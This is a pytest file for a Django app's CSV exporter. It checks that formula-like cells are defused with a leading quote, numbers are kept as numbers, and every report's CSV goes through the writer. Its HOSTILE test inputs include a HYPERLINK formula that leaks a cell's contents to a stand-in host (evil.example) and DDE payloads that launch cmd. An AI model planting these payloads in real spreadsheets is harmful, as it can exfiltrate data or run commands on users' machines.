"""The one CSV writer (iop/csvexport.py, issue 18 items 7 and 11): formula cells
defused, numbers kept as numbers, UTF-8 with one byte-order mark, the charset in the
Content-Type; and every registered report's CSV, inline and from a background run,
goes through it (a report added later is covered by the same tests)."""

import codecs
import csv
import dataclasses
import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from iop.csvexport import BOM, CONTENT_TYPE, csv_lines, defuse
from iop.reports.models import ReportRun, RunStatus
from iop.reports.registry import REPORTS
from iop.reports.services import report_storage
from iop.reports.tasks import run_report
from tests.iop.factories import UserFactory

# One cell per character a spreadsheet may read as the start of a formula.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
NUMBERS = (-2, Decimal("-2.5"), -0.5, 0, 13)


def _parse(raw: bytes) -> list[list[str]]:
    assert raw.startswith(codecs.BOM_UTF8), raw[:20]
    assert raw.count(codecs.BOM_UTF8) == 1
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


# --- The writer --------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_starting_a_formula_is_prefixed_with_a_quote(text):
    assert defuse(text) == "'" + text


@pytest.mark.parametrize("number", NUMBERS)
def test_a_number_stays_a_number(number):
    assert defuse(number) is number


def test_plain_text_none_and_other_values():
    assert defuse("D1001") == "D1001"
    assert defuse("Zoë Ñúñez") == "Zoë Ñúñez"
    assert defuse("a=b") == "a=b"  # only the first character counts
    assert defuse(None) == ""
    assert defuse(True) is True


def test_dates_and_moments_are_iso_whatever_the_locale(settings):
    settings.LANGUAGE_CODE = "en-gb"
    moment = timezone.localtime(timezone.make_aware(datetime(2026, 12, 4, 14, 35)))
    assert defuse(date(2026, 12, 4)) == "2026-12-04"
    assert defuse(moment) == "2026-12-04T14:35:00-05:00"
    lines = "".join(csv_lines(("day", "at"), [{"day": date(2026, 12, 4), "at": moment}]))
    assert lines.splitlines()[1] == "2026-12-04,2026-12-04T14:35:00-05:00"

    class Sneaky:
        def __str__(self):
            return "=1+1"

    assert defuse(Sneaky()) == "'=1+1"
    assert defuse("-2") == "'-2"  # text that looks like a number is text: defused


def test_the_file_has_one_bom_at_the_start_however_many_pieces():
    columns = ("name", "score")
    rows = [{"name": "Zoë Ñúñez", "score": -2}] * 7 + [("-2+3", Decimal("-1.5"))] * 6
    pieces = list(csv_lines(columns, rows, chunk=2))
    assert len(pieces) == 8  # the header, then 13 rows two at a time
    raw = "".join(pieces).encode("utf-8")
    parsed = _parse(raw)
    assert parsed[0] == ["name", "score"]
    assert parsed[1] == ["Zoë Ñúñez", "-2"]  # a negative number unquoted
    assert parsed[-1] == ["'-2+3", "-1.5"]
    assert len(parsed) == 14


def test_without_bom_for_a_terminal():
    text = "".join(csv_lines(("a",), [("=1",)], bom=False))
    assert not text.startswith(BOM)
    assert text.splitlines() == ["a", "'=1"]


# --- Every registered report -------------------------------------------------------


def test_the_registry_holds_the_reports_at_collection():
    # The parametrized tests below run once per registered report: an empty registry
    # at collection would make them vanish, not fail.
    assert {"attendance", "billable-days", "census", "documentation", "screening"} <= set(REPORTS)


def _hostile_runner(columns, *, rows_wanted=None):
    """A runner answering every hostile text in every column (dict rows and tuple
    rows, as the registry allows both) and a row of negative numbers."""

    def runner(*, user, filters, progress=None, page=False):
        rows = []
        for n, text in enumerate(HOSTILE):
            row = dict.fromkeys(columns, text)
            rows.append(row if n % 2 else tuple(row[c] for c in columns))
        rows.append({column: NUMBERS[i % len(NUMBERS)] for i, column in enumerate(columns)})
        if rows_wanted:
            rows = (rows * (rows_wanted // len(rows) + 1))[:rows_wanted]
        return {"rows": rows}

    return runner


def _assert_defused(parsed, columns, *, repeats=1, header=None):
    assert parsed[0] == (header or list(columns))
    body = parsed[1:]
    block = len(HOSTILE) + 1
    for start in range(0, block * repeats, block):
        for offset, text in enumerate(HOSTILE):
            assert body[start + offset] == ["'" + text] * len(columns), (text, columns)
        assert body[start + len(HOSTILE)] == [
            str(NUMBERS[i % len(NUMBERS)]) for i in range(len(columns))
        ]


@pytest.mark.parametrize("key", sorted(REPORTS))
def test_every_reports_csv_header_is_in_words(key):
    """A spreadsheet's first line reads as the page's columns do ("Scheduled",
    "Attendance rate %"), not as the code's names ("sessions_scheduled")."""
    header = REPORTS[key].csv_header()
    assert len(header) == len(REPORTS[key].csv_columns)
    for label in header:
        assert "_" not in label and not label[0].islower(), label


def _user_for(report):
    return UserFactory(username=f"csv-{report.key}", roles=[report.roles[0]])


def _filters(report):
    initial = report.form.initial_range()
    return {"start": initial["start"].isoformat(), "end": initial["end"].isoformat()}


@pytest.mark.django_db
@pytest.mark.parametrize("key", sorted(REPORTS))
def test_every_reports_inline_csv_goes_through_the_writer(key, client_as, monkeypatch):
    report = REPORTS[key]
    monkeypatch.setitem(
        REPORTS, key, dataclasses.replace(report, runner=_hostile_runner(report.csv_columns))
    )
    filters = _filters(report)
    response = client_as(_user_for(report)).get(reverse("reports:csv", args=[key]), filters)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8" == CONTENT_TYPE
    assert response["Content-Disposition"] == (
        f'attachment; filename="{key}-{filters["start"]}-{filters["end"]}.csv"'
    )
    _assert_defused(
        _parse(b"".join(response.streaming_content)),
        report.csv_columns,
        header=report.csv_header(),
    )


@pytest.mark.django_db
@pytest.mark.parametrize("key", sorted(REPORTS))
def test_every_reports_background_file_has_one_bom_and_is_defused(
    key, client_as, monkeypatch, settings, tmp_path
):
    settings.STORAGES = {
        **settings.STORAGES,
        "reports": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path), "base_url": None},
        },
    }
    report = REPORTS[key]
    repeats = 200  # 1,400 rows: the file is written in three pieces of 500 lines
    runner = _hostile_runner(report.csv_columns, rows_wanted=(len(HOSTILE) + 1) * repeats)
    monkeypatch.setitem(REPORTS, key, dataclasses.replace(report, runner=runner))
    owner = _user_for(report)
    run = ReportRun.objects.create(
        report=key,
        owner=owner,
        filters=_filters(report),
        expires_at=timezone.now() + timedelta(hours=24),
    )
    assert run_report(run.pk) == "done"  # the Celery task, called as the worker does
    run.refresh_from_db()
    assert run.status == RunStatus.DONE
    with report_storage().open(run.file_name, "rb") as handle:
        stored = handle.read()
    _assert_defused(_parse(stored), report.csv_columns, repeats=repeats, header=report.csv_header())
    download = client_as(owner).get(reverse("reports:download", args=[run.public_id]))
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    assert download["Content-Disposition"].startswith("attachment;")
    assert b"".join(download.streaming_content) == stored
